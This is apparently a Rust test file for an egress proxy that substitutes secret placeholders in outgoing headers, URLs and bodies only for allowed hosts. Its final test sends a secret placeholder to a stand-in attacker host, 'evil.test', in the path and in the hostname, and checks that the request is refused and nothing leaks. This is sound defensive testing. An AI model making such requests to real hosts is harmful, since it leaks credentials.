//! Placeholders become values on the way out, and only there.

use base64::{Engine, engine::general_purpose::STANDARD};
use http_body_util::StreamBody;
use hyper::body::Frame;
use serde_json::json;

use super::*;
use crate::secrets::random_bytes;

/// Secrets and the placeholder of each, by setting.
fn secrets(config: serde_json::Value) -> (Secrets, impl Fn(&str) -> String) {
    let fields: Vec<String> = config.as_object().unwrap().keys().cloned().collect();
    let (config, secrets) = Secrets::conceal(&config, &fields, &[], &mut random_bytes);
    (secrets, move |name: &str| config[name].as_str().unwrap().to_owned())
}

async fn echo(request: Request<Incoming>) -> Answer {
    let (parts, body) = request.into_parts();
    let mut told = format!("{}\n", parts.uri);
    for name in ["authorization", "x-api-key", "content-length"] {
        if let Some(value) = parts.headers.get(name) {
            told.push_str(&format!("{name}: {}\n", value.to_str().unwrap()));
        }
    }
    let body = body.collect().await.unwrap().to_bytes();
    text(format!("{told}{}", String::from_utf8_lossy(&body)))
}

#[tokio::test]
async fn placeholders_become_values_in_headers_and_urls() {
    let (port, _) = serve(echo).await;
    let (secrets, of) = secrets(json!({ "token": "tök/en&=?", "key": "k-123456", "password": "p:ss wörd" }));
    let egress = Setup::open(&[&format!("api.test:{port}")]).secrets(secrets).egress();
    let basic = STANDARD.encode(format!("user:{}", of("password")));
    let request =
        Request::get(format!("http://api.test:{port}/v1/{}/x?t={}&u={}", of("token"), of("token"), of("key")))
            .header("authorization", format!("basic {basic}"))
            .header(
                "x-api-key",
                format!("a {} b {} c thimble-secret-00000000000000000000000000000000", of("key"), of("key")),
            )
            .body(Empty::<Bytes>::new())
            .unwrap();
    let told = body_of(egress.send(request).await.unwrap()).await;
    let token = "t%C3%B6k%2Fen%26%3D%3F";
    let basic = STANDARD.encode("user:p:ss wörd");
    assert_eq!(
        told,
        format!(
            "/v1/{token}/x?t={token}&u=k-123456\nauthorization: Basic {basic}\n\
             x-api-key: a k-123456 b k-123456 c thimble-secret-00000000000000000000000000000000\n"
        )
    );
}

#[tokio::test]
async fn placeholders_become_values_in_small_bodies() {
    let (port, _) = serve(echo).await;
    let (secrets, of) = secrets(json!({ "token": "a\"b&c d" }));
    let placeholder = of("token");
    let egress = Setup::open(&[&format!("api.test:{port}")]).secrets(secrets).egress();
    for (kind, expected) in [
        ("application/json; charset=utf-8", r#"x a\"b&c d y"#),
        ("application/vnd.api+json", r#"x a\"b&c d y"#),
        ("application/x-www-form-urlencoded", "x a%22b%26c%20d y"),
        ("text/plain", "x a\"b&c d y"),
    ] {
        let body = format!("x {placeholder} y");
        // As guests send: in pieces, the placeholder cut in two, with the length before the replacement.
        let pieces: Vec<_> = body
            .as_bytes()
            .chunks(20)
            .map(|piece| Ok::<_, Infallible>(Frame::data(Bytes::copy_from_slice(piece))))
            .collect();
        let request = Request::post(format!("http://api.test:{port}/"))
            .header("content-type", kind)
            .header("content-length", body.len())
            .body(StreamBody::new(futures::stream::iter(pieces)))
            .unwrap();
        let told = body_of(egress.send(request).await.unwrap()).await;
        assert_eq!(told, format!("/\ncontent-length: {}\n{expected}", expected.len()), "{kind}");
    }
}

#[tokio::test]
async fn long_bodies_stream_as_they_are() {
    let (port, _) = serve(echo).await;
    let (secrets, of) = secrets(json!({ "token": "value" }));
    let egress = Setup::open(&[&format!("api.test:{port}")])
        .secrets(secrets)
        .limits(|limits| limits.held_body_bytes = 1_000)
        .egress();
    for declared in [true, false] {
        let body = format!("{}{}", of("token"), "x".repeat(2_000));
        let pieces: Vec<_> = body
            .as_bytes()
            .chunks(300)
            .map(|piece| Ok::<_, Infallible>(Frame::data(Bytes::copy_from_slice(piece))))
            .collect();
        let mut request = Request::post(format!("http://api.test:{port}/"));
        let mut length = String::new();
        if declared {
            request = request.header("content-length", body.len());
            length = format!("content-length: {}\n", body.len());
        }
        let told =
            body_of(egress.send(request.body(StreamBody::new(futures::stream::iter(pieces))).unwrap()).await.unwrap())
                .await;
        assert_eq!(told, format!("/\n{length}{body}"));
    }
}

#[tokio::test]
async fn refused_requests_carry_nothing_and_errors_tell_nothing() {
    let (port, accepted) = serve(echo).await;
    let (secrets, of) = secrets(json!({ "token": "hunter2\nhunter2" }));
    let setup = Setup::open(&[&format!("api.test:{port}")]).secrets(secrets);
    let log = setup.log.clone();
    let egress = setup.egress();
    let elsewhere =
        Request::get(format!("http://evil.test:{port}/{}", of("token"))).body(Empty::<Bytes>::new()).unwrap();
    let denied = egress.send(elsewhere).await.unwrap_err().to_string();
    assert!(
        denied.contains("evil.test") && !denied.contains("hunter2") && !denied.contains("thimble-secret"),
        "{denied}"
    );
    // In the host, a placeholder stays what it is: no name that is granted.
    let host = get(&format!("http://{}.evil.test:{port}/", of("token")));
    assert!(egress.send(host).await.unwrap_err().to_string().contains("thimble-secret-"));
    let request =
        Request::get(format!("http://api.test:{port}/")).header("x", of("token")).body(Empty::<Bytes>::new()).unwrap();
    let error = egress.send(request).await.unwrap_err();
    assert!(matches!(&error, EgressError::Secret { setting, .. } if setting == "token"), "{error}");
    assert!(!format!("{error} {error:?}").contains("hunter2"));
    assert_eq!(accepted.load(Ordering::SeqCst), 0);
    assert!(!log.0.lock().unwrap().join("").contains("hunter2"));
}
